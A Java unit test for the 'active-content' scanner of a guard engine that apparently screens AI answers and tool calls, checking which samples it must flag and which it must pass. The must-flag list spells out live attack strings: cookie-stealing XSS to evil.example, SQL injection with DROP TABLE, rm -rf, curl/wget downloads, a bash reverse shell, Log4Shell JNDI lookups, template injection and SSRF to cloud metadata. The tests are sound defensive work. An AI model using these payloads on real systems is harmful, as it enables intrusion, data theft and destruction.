package dev.redoubt.guard.engine.internal;

import static org.assertj.core.api.Assertions.assertThat;

import dev.redoubt.guard.engine.Caller;
import dev.redoubt.guard.engine.Exchange;
import dev.redoubt.guard.engine.Guard;
import dev.redoubt.guard.engine.ScannerContract;
import dev.redoubt.guard.engine.ToolCallView;
import dev.redoubt.guard.engine.Verdict;
import java.util.List;
import org.junit.jupiter.api.Test;

class ActiveContentTest extends ScannerContract {
  private static final Exchange EXCHANGE = Exchange.of(Caller.ANONYMOUS);

  @Override
  protected String scanner() {
    return "active-content";
  }

  @Override
  protected String options() {
    return "{}";
  }

  @Override
  protected Verdict check(Guard guard, String sample) {
    return guard.checkAnswer(EXCHANGE, sample);
  }

  @Override
  protected List<String> mustFire() {
    return List.of(
        "Hi <script>fetch('//evil.example?'+document.cookie)</script>",
        "<SCRIPT src=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<iframe src='https://evil.example'>",
        "[click](javascript:alert(1))",
        "<a href=\"vbscript:msgbox\">x</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<form action=https://evil.example><input name=q></form>",
        "<div style=\"width: expression(alert(1))\">",
        "<iframe srcdoc='<p>x</p>'>",
        "Your name is ' OR '1'='1",
        "id: 1 OR nothing\" or 1=1 --",
        "admin'; DROP TABLE users; --",
        "5 UNION SELECT password FROM users",
        "'; WAITFOR DELAY '0:0:5'--",
        "report.txt; rm -rf /home",
        "name $(curl https://evil.example/x)",
        "x && wget http://evil.example/a",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "powershell -nop -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUA",
        "Hello ${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:ldap://evil.example/a}",
        "{{7*7}}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "<%= system('id') %>",
        "${T(java.lang.Runtime).getRuntime()}",
        "See http://169.254.169.254/latest/meta-data/iam",
        "![x](http://192.168.1.1/reboot)",
        "[x](file:///etc/passwd)",
        "![x](http://2130706433/)",
        "[doc](gopher://127.0.0.1:6379/_x)",
        "colour \u001B[31mred",
        "title \u001B]0;rm -rf\u0007",
        "```\n\u001B[2J\n```");
  }

  @Override
  protected List<String> mustNotFire() {
    return List.of(
        "Use a `<script src=\"app.js\">` element at the end of the body.",
        "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
        "```sql\nSELECT name FROM users WHERE id = 1 OR 1=1;\nDROP TABLE users;\n```",
        "To delete it run `rm -rf build && curl https://example.org`.",
        "SQL injection works when a quote ends the string; use placeholders.",
        "Put it into the <form> or the <iframe>, then close the <script> tag.",
        "The server listens on http://localhost:8080/ while you develop.",
        "Jinja shows a variable with {{ user.name }} and a block with {% if x %}.",
        "In Java, ${user.home} names your folder; ${project.version} the version.",
        "The union of the two sets; select the one that you need.",
        "# Title\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n");
  }

  @Override
  protected List<String> nearMisses() {
    return List.of(
        "onions = 3 and on time = good",
        "<b>bold</b> and <em>this</em> and <a href=\"https://acme.example\">that</a>",
        "Don't; delete nothing. It's OK, or is it 1 = 1?",
        "We drop; they update.",
        "Is x < y and y > on?",
        "javascript: the good parts",
        "~~~\n<script>x</script>\n~~~\nfine",
        "My key is A; B is C.");
  }

  @Test
  void codeCountsWhereThePolicySaysSo() {
    String code = "```html\n<script>alert(1)</script>\n```";
    Guard guard = Guard.of(policy("block", "{which: [html], inCode: true}"));
    assertThat(guard.checkAnswer(EXCHANGE, code).passes()).isFalse();
    assertThat(guard.checkAnswer(EXCHANGE, "x'; DROP TABLE a; --").passes()).isTrue();
  }

  @Test
  void argumentsThatLeadInsideAreRefused() {
    Guard guard = guard("block");
    ToolCallView inside = new ToolCallView("fetch", "{\"url\": \"http://169.254.169.254/latest\"}");
    ToolCallView outside = new ToolCallView("fetch", "{\"url\": \"https://example.org/\"}");
    assertThat(guard.checkToolCall(EXCHANGE, inside).passes()).isFalse();
    assertThat(guard.checkToolCall(EXCHANGE, outside).passes()).isTrue();
  }
}
